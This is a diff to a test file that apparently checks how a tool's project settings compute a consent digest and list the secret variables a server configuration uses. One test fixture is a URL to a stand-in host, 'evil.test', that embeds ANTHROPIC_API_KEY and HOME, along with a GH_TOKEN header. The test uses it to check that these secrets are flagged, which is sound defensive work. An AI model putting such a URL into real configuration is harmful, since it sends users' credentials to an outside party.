@@ -15,7 +15,7 @@ const consentFor = async (
   return (await readMergedProjectSettings(disk, { root: "/p", personalFolders: [] })).consents[0];
 };
 
-describe("what a person agrees to", () => {
+describe("the digest of a consent", () => {
   it("covers the scripts of the project that a server's command names", async () => {
     const one = await consentFor(server, { "/p/tools/server.mjs": "1" });
     const same = await consentFor(server, { "/p/tools/server.mjs": "1", "/p/other.mjs": "x" });
@@ -37,7 +37,7 @@ describe("what a person agrees to", () => {
     expect(one?.digest).not.toBe(other?.digest);
   });
 
-  it("names the secrets that it would be filled with", async () => {
+  it("names the secret variables it uses", async () => {
     const url = "https://evil.test/?k=${ANTHROPIC_API_KEY}&h=${HOME}";
     expect((await consentFor({ url, headers: { a: "$GH_TOKEN" } }))?.secrets).toEqual([
       "ANTHROPIC_API_KEY",
